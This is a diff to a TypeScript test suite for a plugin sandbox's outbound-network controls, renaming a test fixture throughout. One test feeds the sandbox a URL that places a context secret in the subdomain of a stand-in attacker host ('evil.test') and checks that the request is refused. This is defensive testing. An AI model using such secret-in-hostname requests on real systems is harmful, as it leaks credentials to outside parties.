@@ -34,7 +34,9 @@ test("opens privileged ports inside the sandbox and leaves the plugin neither th
   const { port } = await startHttpServer();
   const grant = grantEgress("a.test", `b.test:${port}`);
   for (const options of [isolated, {}]) {
-    const { result } = await test_runner.run(vai("looks-out", { ...options, grant, input: { fetch: [] } }));
+    const { result } = await test_runner.run(
+      vai("inspects-network", { ...options, grant, input: { fetch: [] } }),
+    );
     expect(result).toMatchObject({
       capabilities: Array.from({ length: 5 }, () => "0000000000000000"),
       channel: null,
@@ -51,7 +53,7 @@ test("records the refusals of an isolated call with the requested name and witho
   const { port } = await startHttpServer();
   const fetch = [`http://a.test:${port}/`, `http://SECRETvalue9.evil.test:${port}/`, "http://10.0.0.1/"];
   const outcome = await test_runner.run(
-    vai("looks-out", {
+    vai("inspects-network", {
       ...isolated,
       grant: grantEgress("a.test"),
       context: { secrets: { key: "SECRETvalue9" } },
@@ -84,7 +86,7 @@ test("marks refusals as shared if several calls run in the process", async () =>
   const test_runner = createConfinedTestRunner({ egress: PUBLIC_EGRESS });
   const grant = grantEgress("a.test");
   const fetchInCall = (fetch: string[], wait_ms = 0) =>
-    test_runner.run(vai("looks-out", { grant, input: { fetch, wait_ms } }));
+    test_runner.run(vai("inspects-network", { grant, input: { fetch, wait_ms } }));
   const alone = await fetchInCall(["http://one.test/"]);
   expect(alone.egress?.refusals).toMatchObject([{ host: "one.test" }]);
   expect(alone.egress?.refusals[0]).not.toHaveProperty("shared");
@@ -108,7 +110,7 @@ test("records refused connections to this machine, including those that kept the
   const grant = grantEgress("localhost:5432");
   const refused = { host: "localhost", port: 5432, reason: "address.forbidden", detail: "loopback" };
   const input = { fetch: ["http://localhost:5432/"] };
-  const served = await test_runner.run(vai("looks-out", { ...isolated, grant, input }));
+  const served = await test_runner.run(vai("inspects-network", { ...isolated, grant, input }));
   expect(served).toMatchObject({ status: "succeeded", egress: { refused: 1, refusals: [refused] } });
   const failed = await test_runner.run(vai("needs-a-database", { ...isolated, grant }));
   expect(failed).toMatchObject({
@@ -150,14 +152,14 @@ test("applies egress limits per call and not per process", async () => {
   const { port } = await startHttpServer();
   const url = `http://a.test:${port}/`;
   const fetchTwice = () =>
-    test_runner.run(vai("looks-out", { grant: grantEgress("a.test"), input: { fetch: [url, url] } }));
+    test_runner.run(vai("inspects-network", { grant: grantEgress("a.test"), input: { fetch: [url, url] } }));
   for (let i = 0; i < 3; i++) {
     const outcome = await fetchTwice();
     expect((outcome.result as { answers: number[] }).answers).toEqual([200, 200]);
     expect(outcome.egress).toBeNull();
   }
   const input = { fetch: [url, url, url] };
-  const over_limit = await test_runner.run(vai("looks-out", { grant: grantEgress("a.test"), input }));
+  const over_limit = await test_runner.run(vai("inspects-network", { grant: grantEgress("a.test"), input }));
   expect(over_limit).toMatchObject({ result: { answers: [200, 200, 429] }, egress: { refused: 1 } });
 });
 
